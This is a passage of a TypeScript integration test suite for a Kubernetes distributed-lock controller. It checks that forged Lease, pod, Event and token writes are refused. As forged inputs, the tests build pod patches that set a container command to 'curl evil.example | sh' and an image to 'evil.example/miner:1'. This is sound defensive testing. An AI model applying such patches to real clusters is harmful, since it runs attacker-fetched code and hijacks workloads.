/**
 * Bad input (docs/safety.md: unconditional renews, forged Lease writes, forged tokens): forged and
 * malformed writes, each of which must be refused with a message naming the field or the reason,
 * and leave everything as it was.
 *
 * - Lease and Pod writes by an agent identity: a real ServiceAccount `fencepost-agent` with the
 *   agent Role of the chart (leases get/list/watch/update, pods patch, distributedlocks get) and
 *   pod-bound TokenRequest tokens, against the real API server with test/safety/agent-policy.yaml
 *   (ValidatingAdmissionPolicies) applied and bound to this test's namespace only.
 * - A renew without a valid precondition (a stale resourceVersion): 409.
 * - Malformed and forged tokens at the Redis guard (real redis-server): refused before anything
 *   is sent; a stale token is refused by the script; the high-water mark never moves.
 * Positive controls: the holder renews and releases its own Lease, and annotates its own pod.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import type { KubeConfig, KubernetesObject, V1RoleBinding } from '@kubernetes/client-node';
import {
  AdmissionregistrationV1Api,
  CoordinationV1Api,
  CoreV1Api,
  CustomObjectsApi,
  RbacAuthorizationV1Api,
  loadAllYaml,
  type CoreV1Event,
  type V1Lease,
  type V1ValidatingAdmissionPolicy,
  type V1ValidatingAdmissionPolicyBinding,
} from '@kubernetes/client-node';
import type { Redis } from 'ioredis';
import { Redis as RedisClient } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { GROUP, PLURAL, VERSION } from '../../src/api/v1alpha1/distributedlock.ts';
import { redisGuard } from '../../src/guards/redis-guard.ts';
import { completedLease, microTime, parseLease, releasedLease, renewedLease } from '../../src/lease/record.ts';
import { startDashboard, type Dashboard } from '../../src/dashboard/start.ts';
import { silentLogger } from '../../src/observability/logger.ts';
import { realClock } from '../../src/runtime/clock.ts';
import { agentBinary } from '../support/agent-binary.ts';
import { eventually, freshNamespace, sharedKubeconfigPath, sharedRedisUrl } from '../support/env.ts';
import {
  createLock,
  createPod,
  getLease,
  lockBody,
  serviceAccountKubeConfig,
  setPodStatus,
  mergePatch,
  jsonPatch,
} from '../support/fixtures.ts';
import { problemType, sendRaw } from '../support/local-api.ts';
import { useLockController } from '../support/lock-controller.ts';
import { findBinary } from '../support/testbed/assets.ts';
import { freePort } from '../support/testbed/ports.ts';
import { spawnManaged, type ManagedProcess } from '../support/testbed/processes.ts';
import { podKeys, leaseName } from '../../src/protocol/names.ts';

const run = promisify(execFile);
const POLICY_FILE = resolve(import.meta.dirname, 'agent-policy.yaml');
const CHART = resolve(import.meta.dirname, '../../charts/fencepost');
const AGENT_SA = 'fencepost-agent';
/** CONTROLLER_SA: the chart's controller ServiceAccount for release `r` (fencepost.serviceAccountName). */
const CONTROLLER_SA = 'r-fencepost';
/** ELECTION_LEASE: the chart's leaderElection.id. */
const ELECTION_LEASE = 'fencepost-controller';

// The classes of bad input, each counted on its own (docs/safety.md, "Bad input").
const AGENT_LEASES = 'Lease writes with an agent token';
const AGENT_WRITES = 'pod, Event and lock writes with an agent token';
const AGENT_SPEC = "pod spec patches with an agent token (its own pod's image, command)";
const CONTROLLER_PODS = "pod spec and foreign metadata patches with the controller's token";
const CONTROLLER_LEASES = "non-dlock Lease writes with the controller's token";
const DASHBOARD = 'dashboard raw reads of objects of no lock';
const FOREIGN_HOST = 'local API: a foreign Host (DNS rebinding)';
const BROWSER = 'local API: a browser Origin or Sec-Fetch-Site';
const NOT_JSON = 'local API: form, text/plain and bodiless POSTs';
const TOKENS = 'tokens at the Redis guard';

/** failure returns the HTTP status and the API server's message of a rejected call. */
async function failure(call: () => Promise<unknown>): Promise<{ code: number; message: string }> {
  try {
    await call();
  } catch (err) {
    const code = (err as { code?: number }).code ?? 0;
    const body = (err as { body?: unknown }).body;
    let message = err instanceof Error ? err.message : String(err);
    if (typeof body === 'string') {
      try {
        message = (JSON.parse(body) as { message?: string }).message ?? body;
      } catch {
        message = body;
      }
    }
    return { code, message };
  }
  return { code: 200, message: '(allowed)' };
}

describe('bad input is refused, naming the field or the reason, and changes nothing', () => {
  const fx = useLockController('badinput-');
  const lock = 'guarded';
  let ns: string;
  let admin: KubeConfig;
  let asA: KubeConfig; // pod A's agent (A holds the lock)
  let asB: KubeConfig; // pod B's agent (a candidate, not the holder)
  let unbound: KubeConfig; // the agent ServiceAccount with a token bound to no pod
  let holder: { name: string; uid: string };
  let releaseNs: string; // the chart's release namespace: the controller's ServiceAccount and its election Lease
  let asController: KubeConfig; // a token of the chart's controller ServiceAccount, with the chart's Roles
  let dashboard: Dashboard | undefined;
  let agentApi: ManagedProcess | undefined; // an agent process whose local API the browser cases reach
  let apiPort = 0;
  let agentDir = '';
  const policyNames: string[] = [];
  const bindingNames: string[] = [];
  // Counted per class of bad input (docs/safety.md): every class must refuse all it tried, and
  // every positive control of the class must pass.
  const tallies = new Map<string, { tried: number; rejected: number; controls: number; allowed: number }>();
  const tally = (category: string): { tried: number; rejected: number; controls: number; allowed: number } => {
    let c = tallies.get(category);
    if (c === undefined) {
      c = { tried: 0, rejected: 0, controls: 0, allowed: 0 };
      tallies.set(category, c);
    }
    return c;
  };

  const tokenConfig = (bound: { name: string; uid: string } | undefined): Promise<KubeConfig> =>
    serviceAccountKubeConfig(admin, ns, AGENT_SA, bound);

  beforeAll(async () => {
    ns = fx.t.namespace;
    admin = fx.t.kc;
    const rbac = admin.makeApiClient(RbacAuthorizationV1Api);
    await fx.t.core.createNamespacedServiceAccount({ namespace: ns, body: { metadata: { name: AGENT_SA } } });
    // The chart's agent Role (charts/fencepost/templates/agent-role.yaml), verbatim.
    await rbac.createNamespacedRole({
      namespace: ns,
      body: {
        metadata: { name: 'fencepost-agent' },
        rules: [
          { apiGroups: ['coordination.k8s.io'], resources: ['leases'], verbs: ['get', 'list', 'watch', 'update'] },
          { apiGroups: [''], resources: ['pods'], verbs: ['patch'] },
          { apiGroups: ['fencepost.io'], resources: ['distributedlocks'], verbs: ['get'] },
          { apiGroups: [''], resources: ['events'], verbs: ['create', 'patch'] },
        ],
      },
    });
    await rbac.createNamespacedRoleBinding({
      namespace: ns,
      body: {
        metadata: { name: 'fencepost-agent' },
        roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name: 'fencepost-agent' },
        subjects: [{ kind: 'ServiceAccount', name: AGENT_SA, namespace: ns }],
      },
    });

    // The policies, bound to this namespace only (the control plane is shared with other tests).
    const adm = admin.makeApiClient(AdmissionregistrationV1Api);
    for (const doc of loadAllYaml(readFileSync(POLICY_FILE, 'utf8')) as (
      V1ValidatingAdmissionPolicy | V1ValidatingAdmissionPolicyBinding
    )[]) {
      const name = `${doc.metadata?.name ?? ''}-${ns}`;
      if (doc.kind === 'ValidatingAdmissionPolicy') {
        await adm.createValidatingAdmissionPolicy({
          body: { ...doc, metadata: { name } } as V1ValidatingAdmissionPolicy,
        });
        policyNames.push(name);
      } else {
        const b = doc as V1ValidatingAdmissionPolicyBinding;
        await adm.createValidatingAdmissionPolicyBinding({
          body: {
            ...b,
            metadata: { name },
            spec: {
              ...b.spec,
              policyName: `${b.spec?.policyName ?? ''}-${ns}`,
              matchResources: { namespaceSelector: { matchLabels: { 'kubernetes.io/metadata.name': ns } } },
            },
          },
        });
        bindingNames.push(name);
      }
    }

    const pod = async (name: string) => {
      await fx.t.core.createNamespacedPod({
        namespace: ns,
        body: {
          metadata: { name, labels: { app: lock } },
          spec: { serviceAccountName: AGENT_SA, containers: [{ name: 'app', image: 'example.invalid/app:1' }] },
        },
      });
      const p = await setPodStatus(fx.t, name, 'ready');
      return { name, uid: p.metadata?.uid ?? '' };
    };
    holder = await pod('pod-a');
    const b = await pod('pod-b');
    podUids.set('pod-a', holder.uid);
    podUids.set('pod-b', b.uid);
    // Another app's leader-election Lease in the same namespace: no fencepost label.
    await admin.makeApiClient(CoordinationV1Api).createNamespacedLease({
      namespace: ns,
      body: { metadata: { name: 'other-app-leader' }, spec: { holderIdentity: 'other-0', leaseDurationSeconds: 15 } },
    });
    await createLock(fx.t, lockBody(lock, lock, { leaseDurationSeconds: 600 }));
    await eventually(async () => {
      expect((await getLease(fx.t, lock))?.spec?.holderIdentity).toBe(`${holder.name}/${holder.uid}`);
    }, 30_000);
    asA = await tokenConfig(holder);
    asB = await tokenConfig(b);
    unbound = await tokenConfig(undefined);
    // The policies take effect once the API server has loaded them, each on its own: wait until a
    // write each of the three refuses is refused (CI once ran the pod and Event cases, 10 of them,
    // before their policies had loaded: 200). Dry runs: admission runs, nothing is stored.
    await eventually(
      async () => {
        const l = await getLease(fx.t, lock);
        const probes = await Promise.all([
          failure(() =>
            asB.makeApiClient(CoordinationV1Api).replaceNamespacedLease({
              namespace: ns,
              name: leaseName(lock),
              body: renewedLease(l as V1Lease, new Date()),
              dryRun: 'All',
            }),
          ),
          failure(() =>
            asB.makeApiClient(CoreV1Api).patchNamespacedPod(
              {
                namespace: ns,
                name: 'pod-b',
                body: { metadata: { labels: { [podKeys(lock).holder]: 'true' } } },
                dryRun: 'All',
              },
              mergePatch,
            ),
          ),
          failure(() =>
            asA
              .makeApiClient(CoreV1Api)
              .createNamespacedEvent({ namespace: ns, body: agentEvent('pod-b', 'fencepost-agent'), dryRun: 'All' }),
          ),
        ]);
        expect(probes.map((r) => r.code)).toEqual([403, 403, 403]);
      },
      30_000,
      250,
    );

    // The controller's side, as the chart installs it (release "r" in releaseNs, watching ns): its
    // Role in ns, its leader-election Role in releaseNs, their bindings, and its admission
    // policies, rendered by helm and bound to these two namespaces only.
    releaseNs = await freshNamespace(admin, 'badinput-rel-');
    await fx.t.core.createNamespacedServiceAccount({
      namespace: releaseNs,
      body: { metadata: { name: CONTROLLER_SA } },
    });
    const { stdout } = await run(
      findBinary('helm'),
      [
        'template',
        'r',
        CHART,
        '--namespace',
        releaseNs,
        '--kube-version',
        '1.36.3',
        '--set',
        `watchNamespaces={${ns}}`,
        ...[
          'controller-role',
          'controller-rolebinding',
          'controller-leaderelection-role',
          'controller-leaderelection-rolebinding',
          'controller-admission-policies',
        ].flatMap((f) => ['--show-only', `templates/${f}.yaml`]),
      ],
      { maxBuffer: 8 * 1024 * 1024 },
    );
    for (const doc of loadAllYaml(stdout) as KubernetesObject[]) {
      if (doc.kind === 'Role') await rbac.createNamespacedRole({ namespace: doc.metadata?.namespace ?? '', body: doc });
      else if (doc.kind === 'RoleBinding')
        await rbac.createNamespacedRoleBinding({
          namespace: doc.metadata?.namespace ?? '',
          body: doc as V1RoleBinding,
        });
      else if (doc.kind === 'ValidatingAdmissionPolicy') {
        const name = `${doc.metadata?.name ?? ''}-${ns}`;
        await adm.createValidatingAdmissionPolicy({
          body: { ...(doc as V1ValidatingAdmissionPolicy), metadata: { name } },
        });
        policyNames.push(name);
      } else if (doc.kind === 'ValidatingAdmissionPolicyBinding') {
        const b = doc as V1ValidatingAdmissionPolicyBinding;
        const name = `${b.metadata?.name ?? ''}-${ns}`;
        await adm.createValidatingAdmissionPolicyBinding({
          body: {
            ...b,
            metadata: { name },
            spec: {
              ...b.spec,
              policyName: `${b.spec?.policyName ?? ''}-${ns}`,
              matchResources: {
                namespaceSelector: {
                  matchExpressions: [{ key: 'kubernetes.io/metadata.name', operator: 'In', values: [ns, releaseNs] }],
                },
              },
            },
          },
        });
        bindingNames.push(name);
      }
    }
    asController = await serviceAccountKubeConfig(admin, releaseNs, CONTROLLER_SA);
    await eventually(
      async () => {
        const probes = await Promise.all([
          failure(() =>
            asController.makeApiClient(CoreV1Api).patchNamespacedPod(
              {
                namespace: ns,
                name: 'pod-b',
                body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'x.example/y:1' }],
                dryRun: 'All',
              },
              jsonPatch,
            ),
          ),
          failure(() =>
            leases(asController).createNamespacedLease({
              namespace: ns,
              body: { metadata: { name: 'probe-not-dlock' }, spec: {} },
              dryRun: 'All',
            }),
          ),
        ]);
        expect(probes.map((r) => r.message)).toEqual([
          expect.stringContaining('r-fencepost-controller-pods'),
          expect.stringContaining('r-fencepost-controller-leases'),
        ]);
      },
      30_000,
      250,
    );

    // A pod that no lock selects, for the dashboard cases.
    await createPod(fx.t, 'vault-0', { app: 'vault' });
    dashboard = await startDashboard({
      kc: admin,
      namespace: undefined,
      host: '127.0.0.1',
      port: 0,
      clock: realClock,
      log: silentLogger,
    });
    await eventually(async () => {
      expect((await fetch(new URL(`/api/locks/${ns}/${lock}`, dashboard?.url))).status).toBe(200);
    }, 30_000);

    // An agent process of its own pod and lock, for the local API cases.
    agentDir = mkdtempSync(join(tmpdir(), 'fencepost-badinput-'));
    const c = await createPod(fx.t, 'pod-c', { app: 'local-api' });
    await createLock(fx.t, lockBody('local-api', 'local-api', { leaseDurationSeconds: 5, mode: 'Mutex' }));
    apiPort = await freePort();
    agentApi = spawnManaged('badinput-agent', agentBinary(), {
      args: [
        'agent',
        '--lock',
        'local-api',
        '--listen',
        `127.0.0.1:${apiPort}`,
        '--health-probe-bind-address=0',
        '--metrics-bind-address=0',
        '--kubeconfig',
        sharedKubeconfigPath(),
      ],
      logFile: join(agentDir, 'agent.log'),
      env: { ...process.env, POD_NAME: 'pod-c', POD_NAMESPACE: ns, POD_UID: c.metadata?.uid ?? '' },
    });
    await eventually(async () => {
      expect((await sendRaw(apiPort, 'GET', '/readyz', { host: `127.0.0.1:${apiPort}` })).status).toBe(200);
    }, 30_000);
  }, 180_000);

  afterAll(async () => {
    await agentApi?.stop();
    await dashboard?.stop();
    if (agentDir !== '') rmSync(agentDir, { recursive: true, force: true });
    const adm = admin.makeApiClient(AdmissionregistrationV1Api);
    for (const name of bindingNames) await adm.deleteValidatingAdmissionPolicyBinding({ name }).catch(() => undefined);
    for (const name of policyNames) await adm.deleteValidatingAdmissionPolicy({ name }).catch(() => undefined);
    for (const [category, c] of tallies)
      process.stdout.write(
        `bad input: ${category}: ${c.rejected}/${c.tried} rejected; positive controls ${c.allowed}/${c.controls} allowed\n`,
      );
  });

  const lockLease = leaseName(lock);
  const podUids = new Map<string, string>();
  /** agentEvent: a core/v1 Event about pod `about`, recorded as `component`, as the agent records LockLost. */
  const agentEvent = (about: string, component: string): CoreV1Event => ({
    metadata: { name: `${about}.forged-${component}` },
    involvedObject: { apiVersion: 'v1', kind: 'Pod', namespace: ns, name: about, uid: podUids.get(about) ?? '' },
    reason: 'LockLost',
    message: 'forged',
    type: 'Warning',
    source: { component, host: 'pod-a' },
    reportingComponent: component,
    reportingInstance: 'pod-a',
    firstTimestamp: new Date(),
    lastTimestamp: new Date(),
    count: 1,
  });
  const lease = async (): Promise<V1Lease> => {
    const l = await getLease(fx.t, lock);
    if (l === undefined) throw new Error('no Lease');
    return l;
  };
  const podRv = async (name: string): Promise<string> =>
    (await fx.t.core.readNamespacedPod({ namespace: ns, name })).metadata?.resourceVersion ?? '';
  const leases = (kc: KubeConfig): CoordinationV1Api => kc.makeApiClient(CoordinationV1Api);
  // Every edit copies what it changes (no structuredClone: it would turn MicroTime into Date).
  const edit = (l: V1Lease, f: (l: V1Lease) => V1Lease): V1Lease => f(l);
  const ann = (l: V1Lease, k: string, v: string): V1Lease => ({
    ...l,
    metadata: { ...l.metadata, annotations: { ...l.metadata?.annotations, [k]: v } },
  });

  type Who = 'A' | 'B' | 'unbound' | 'admin' | 'controller';
  const as = (who: Who): KubeConfig =>
    who === 'A' ? asA : who === 'B' ? asB : who === 'unbound' ? unbound : who === 'controller' ? asController : admin;

  /** Lease cases: the write is built from the current Lease (with its resourceVersion) and sent as `who`. */
  const leaseCases: ReadonlyArray<{
    name: string;
    who: Who;
    write: (api: CoordinationV1Api, l: V1Lease) => Promise<unknown>;
    code: number;
    says: readonly string[];
  }> = [
    // RBAC: verbs the agent Role does not grant.
    {
      name: 'create a Lease',
      who: 'A',
      code: 403,
      says: ['cannot create resource "leases"'],
      write: (api) =>
        api.createNamespacedLease({
          namespace: ns,
          body: {
            metadata: { name: 'forged', labels: { 'fencepost.io/lock': lock } },
            spec: { holderIdentity: `${holder.name}/${holder.uid}` },
          },
        }),
    },
    {
      name: "delete the lock's Lease",
      who: 'B',
      code: 403,
      says: ['cannot delete resource "leases"'],
      write: (api) => api.deleteNamespacedLease({ namespace: ns, name: lockLease }),
    },
    {
      name: 'delete every Lease (deletecollection)',
      who: 'B',
      code: 403,
      says: ['cannot deletecollection resource "leases"'],
      write: (api) => api.deleteCollectionNamespacedLease({ namespace: ns }),
    },
    {
      name: 'merge-patch the Lease without a resourceVersion',
      who: 'A',
      code: 403,
      says: ['cannot patch resource "leases"'],
      write: (api) =>
        api.patchNamespacedLease(
          { namespace: ns, name: lockLease, body: { spec: { renewTime: microTime(new Date()) } } },
          mergePatch,
        ),
    },
    // The policy: writes RBAC allows (update), refused because of what they change or who sends them.
    {
      name: "B renews A's Lease",
      who: 'B',
      code: 403,
      says: ['spec.holderIdentity', 'only the holder pod', 'pod-b/'],
      write: (api, l) =>
        api.replaceNamespacedLease({ namespace: ns, name: lockLease, body: renewedLease(l, new Date()) }),
    },
    {
      name: "B names itself holder of A's Lease",
      who: 'B',
      code: 403,
      says: ['spec.holderIdentity', 'only the holder pod'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({ ...x, spec: { ...x.spec, holderIdentity: 'pod-b/forged' } })),
        }),
    },
    {
      name: "B releases A's Lease",
      who: 'B',
      code: 403,
      says: ['spec.holderIdentity', 'only the holder pod'],
      write: (api, l) =>
        api.replaceNamespacedLease({ namespace: ns, name: lockLease, body: releasedLease(l, 'Released') }),
    },
    {
      name: 'an unbound agent token renews the Lease',
      who: 'unbound',
      code: 403,
      says: ['pod-bound ServiceAccount token'],
      write: (api, l) =>
        api.replaceNamespacedLease({ namespace: ns, name: lockLease, body: renewedLease(l, new Date()) }),
    },
    {
      name: 'B records a completed run on the Lease A holds, marking done a run it never ran',
      who: 'B',
      code: 403,
      says: ['spec.holderIdentity', 'only the holder pod'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: completedLease(l, { runId: 'run-b', token: 1n, holder: 'pod-b', completedAt: new Date() }),
        }),
    },
    {
      name: 'the holder hands the Lease to B',
      who: 'A',
      code: 403,
      says: ['spec.holderIdentity', 'never name another holder'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({ ...x, spec: { ...x.spec, holderIdentity: 'pod-b/x' } })),
        }),
    },
    {
      name: 'the holder sets leaseDurationSeconds to 0',
      who: 'A',
      code: 422,
      says: ['spec.leaseDurationSeconds', 'must be greater than 0'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({ ...x, spec: { ...x.spec, leaseDurationSeconds: 0 } })),
        }),
    },
    {
      name: 'the holder sets leaseDurationSeconds to -1',
      who: 'A',
      code: 422,
      says: ['spec.leaseDurationSeconds', 'must be greater than 0'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({ ...x, spec: { ...x.spec, leaseDurationSeconds: -1 } })),
        }),
    },
    {
      name: 'the holder sets leaseDurationSeconds to 10^9',
      who: 'A',
      code: 403,
      says: ['spec.leaseDurationSeconds', 'may not change it'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({ ...x, spec: { ...x.spec, leaseDurationSeconds: 1_000_000_000 } })),
        }),
    },
    {
      name: 'the holder moves acquireTime into the future',
      who: 'A',
      code: 403,
      says: ['spec.acquireTime', 'may not change it'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({
            ...x,
            spec: { ...x.spec, acquireTime: microTime(new Date(Date.now() + 86_400_000)) },
          })),
        }),
    },
    {
      name: 'the holder decrements leaseTransitions',
      who: 'A',
      code: 403,
      says: ['spec.leaseTransitions', 'may not change it'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({ ...x, spec: { ...x.spec, leaseTransitions: (x.spec?.leaseTransitions ?? 1) - 1 } })),
        }),
    },
    {
      name: 'the holder raises the token annotation',
      who: 'A',
      code: 403,
      says: ['fencepost.io/fencing-token', 'high-water mark'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: ann(l, 'fencepost.io/fencing-token', '9223372036854775807'),
        }),
    },
    {
      name: 'the holder lowers the token annotation',
      who: 'A',
      code: 403,
      says: ['fencepost.io/fencing-token', 'high-water mark'],
      write: (api, l) =>
        api.replaceNamespacedLease({ namespace: ns, name: lockLease, body: ann(l, 'fencepost.io/fencing-token', '1') }),
    },
    {
      // A planned handover: the mark makes the next grant go to the pod it names; only the
      // controller writes it, or a holder could hand its lock to a pod the operator never chose.
      name: 'the holder (or the app beside its agent) forges a handover mark on its Lease',
      who: 'A',
      code: 403,
      says: ['fencepost.io/handover-to', 'planned handover'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: ann(l, 'fencepost.io/handover-to', JSON.stringify({ to: 'b/uid', token: '1', drainMs: 0 })),
        }),
    },
    {
      // KEP-4355: a coordinator's preferredHolder is a standing handover request; an agent (and
      // so the app beside it, which shares its pod token) may not write it.
      name: 'the holder (or the app beside its agent) sets spec.preferredHolder on its Lease',
      who: 'A',
      code: 403,
      says: ['spec.preferredHolder', 'planned handover'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({
            ...x,
            spec: { ...x.spec, strategy: 'OldestEmulationVersion', preferredHolder: 'b/uid' },
          })),
        }),
    },
    {
      name: 'the holder stretches its renew deadline',
      who: 'A',
      code: 403,
      says: ['fencepost.io/renew-deadline-ms', 'may not change them'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: ann(l, 'fencepost.io/renew-deadline-ms', '600000'),
        }),
    },
    {
      name: 'the holder moves the Lease to another lock (label)',
      who: 'A',
      code: 403,
      says: ['fencepost.io/lock', 'may not change it'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => ({
            ...x,
            metadata: { ...x.metadata, labels: { ...x.metadata?.labels, 'fencepost.io/lock': 'other' } },
          })),
        }),
    },
    {
      name: 'the holder clears the holder without marking a release',
      who: 'A',
      code: 403,
      says: ['fencepost.io/release', 'must mark the release'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(l, (x) => {
            const { holderIdentity: _h, ...spec } = x.spec ?? {};
            return { ...x, spec };
          }),
        }),
    },
    // A renew must carry the version it was built from, or it could overwrite a newer grant; an
    // outdated one is a conflict.
    {
      name: 'the holder renews with a stale resourceVersion',
      who: 'A',
      code: 409,
      says: ['the object has been modified'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(renewedLease(l, new Date()), (x) => ({
            ...x,
            metadata: { ...x.metadata, resourceVersion: String(BigInt(x.metadata?.resourceVersion ?? '2') - 1n) },
          })),
        }),
    },
    // What the agent's Role allows beyond its lock Lease, which the policies must narrow.
    {
      name: "A updates another app's unlabelled Lease",
      who: 'A',
      code: 403,
      says: ['only fencepost'],
      write: async (api) => {
        const other = await leases(admin).readNamespacedLease({ namespace: ns, name: 'other-app-leader' });
        return api.replaceNamespacedLease({
          namespace: ns,
          name: 'other-app-leader',
          body: { ...other, spec: { ...other.spec, holderIdentity: 'pod-a' } },
        });
      },
    },
    {
      name: "A rewrites its own lock Lease's ownerReferences",
      who: 'A',
      code: 403,
      says: ['metadata.ownerReferences'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(renewedLease(l, new Date()), (x) => ({ ...x, metadata: { ...x.metadata, ownerReferences: [] } })),
        }),
    },
    {
      name: 'A puts a finalizer on its own lock Lease',
      who: 'A',
      code: 403,
      says: ['metadata.finalizers'],
      write: (api, l) =>
        api.replaceNamespacedLease({
          namespace: ns,
          name: lockLease,
          body: edit(renewedLease(l, new Date()), (x) => ({
            ...x,
            metadata: { ...x.metadata, finalizers: ['example.com/keep'] },
          })),
        }),
    },
  ];

  it.each(leaseCases)('Lease: $name → $code', async (c) => {
    tally(AGENT_LEASES).tried++;
    const before = await lease();
    const r = await failure(() => c.write(leases(as(c.who)), before));
    expect(r.code, r.message).toBe(c.code);
    for (const s of c.says) expect(r.message).toContain(s);
    expect((await lease()).metadata?.resourceVersion, 'the Lease changed').toBe(before.metadata?.resourceVersion);
    tally(AGENT_LEASES).rejected++;
  });

  const keys = podKeys(lock);
  /** image: a JSON patch that replaces the pod's container image, as `kubectl set image` would. */
  const image = (kc: KubeConfig, pod: string): Promise<unknown> =>
    kc.makeApiClient(CoreV1Api).patchNamespacedPod(
      {
        namespace: ns,
        name: pod,
        body: [{ op: 'replace', path: '/spec/containers/0/image', value: 'evil.example/miner:1' }],
      },
      jsonPatch,
    );
  /** command: a JSON patch that gives the pod's container another command. */
  const command = (kc: KubeConfig, pod: string): Promise<unknown> =>
    kc.makeApiClient(CoreV1Api).patchNamespacedPod(
      {
        namespace: ns,
        name: pod,
        body: [{ op: 'add', path: '/spec/containers/0/command', value: ['sh', '-c', 'curl evil.example | sh'] }],
      },
      jsonPatch,
    );
  const podCases: ReadonlyArray<{
    name: string;
    who: Who;
    pod: string;
    call: (kc: KubeConfig) => Promise<unknown>;
    code: number;
    says: readonly string[];
    /** category: the class of bad input; default AGENT_WRITES. */
    category?: string;
  }> = [
    {
      name: "A changes its own pod's container image",
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['fencepost-agent-pods', "spec: an agent may not change its pod's spec"],
      category: AGENT_SPEC,
      call: (kc) => image(kc, 'pod-a'),
    },
    {
      // The API server's own pod validation refuses a command change before admission (a pod's
      // spec is immutable but for images and a few fields); the agent policy would refuse it too.
      name: "A changes its own pod's container command",
      who: 'A',
      pod: 'pod-a',
      code: 422,
      says: ['pod updates may not change fields other than'],
      category: AGENT_SPEC,
      call: (kc) => command(kc, 'pod-a'),
    },
    {
      name: "B changes its own pod's container image",
      who: 'B',
      pod: 'pod-b',
      code: 403,
      says: ['fencepost-agent-pods', "spec: an agent may not change its pod's spec"],
      category: AGENT_SPEC,
      call: (kc) => image(kc, 'pod-b'),
    },
    {
      name: "the controller changes a candidate pod's container image",
      who: 'controller',
      pod: 'pod-b',
      code: 403,
      says: ['r-fencepost-controller-pods', "never the pod's spec"],
      category: CONTROLLER_PODS,
      call: (kc) => image(kc, 'pod-b'),
    },
    {
      name: "the controller changes the holder pod's container image",
      who: 'controller',
      pod: 'pod-a',
      code: 403,
      says: ['r-fencepost-controller-pods', "never the pod's spec"],
      category: CONTROLLER_PODS,
      call: (kc) => image(kc, 'pod-a'),
    },
    {
      name: "the controller changes a pod's container command",
      who: 'controller',
      pod: 'pod-b',
      code: 422,
      says: ['pod updates may not change fields other than'],
      category: CONTROLLER_PODS,
      call: (kc) => command(kc, 'pod-b'),
    },
    {
      name: "the controller relabels a pod into another lock's candidate selector",
      who: 'controller',
      pod: 'pod-b',
      code: 403,
      says: ['r-fencepost-controller-pods', 'metadata.labels', 'not app'],
      category: CONTROLLER_PODS,
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-b', body: { metadata: { labels: { app: 'payments' } } } },
            mergePatch,
          ),
    },
    {
      name: "the controller writes an agent's request annotation on a pod",
      who: 'controller',
      pod: 'pod-b',
      code: 403,
      says: ['r-fencepost-controller-pods', 'metadata.annotations', keys.request],
      category: CONTROLLER_PODS,
      call: (kc) =>
        kc.makeApiClient(CoreV1Api).patchNamespacedPod(
          {
            namespace: ns,
            name: 'pod-b',
            body: { metadata: { annotations: { [keys.request]: new Date().toISOString() } } },
          },
          mergePatch,
        ),
    },
    {
      name: 'the controller puts a finalizer on a pod',
      who: 'controller',
      pod: 'pod-b',
      code: 403,
      says: ['r-fencepost-controller-pods', 'metadata.finalizers'],
      category: CONTROLLER_PODS,
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-b', body: { metadata: { finalizers: ['example.com/keep'] } } },
            mergePatch,
          ),
    },
    {
      name: "A annotates B's pod",
      who: 'A',
      pod: 'pod-b',
      code: 403,
      says: ['metadata.name', 'only its own pod'],
      call: (kc) =>
        kc.makeApiClient(CoreV1Api).patchNamespacedPod(
          {
            namespace: ns,
            name: 'pod-b',
            body: { metadata: { annotations: { [keys.request]: new Date().toISOString() } } },
          },
          mergePatch,
        ),
    },
    {
      name: 'B forges a fencing-token annotation on its own pod',
      who: 'B',
      pod: 'pod-b',
      code: 403,
      says: ['fencing-token', 'holder marks'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-b', body: { metadata: { annotations: { [keys.token]: '999999' } } } },
            mergePatch,
          ),
    },
    {
      name: 'A rewrites its own token annotation',
      who: 'A',
      pod: 'pod-a',
      code: 403,
      says: ['fencing-token', 'holder marks'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
            { namespace: ns, name: 'pod-a', body: { metadata: { annotations: { [keys.token]: '1' } } } },
            mergePatch,
          ),
    },
    {
      name: 'B labels itself the holder',
      who: 'B',
      pod: 'pod-b',
      code: 403,
      says: ['lock.fencepost.io/holder', 'only the controller'],
      call: (kc) =>
        kc
          .makeApiClient(CoreV1Api)
          .patchNamespacedPod(
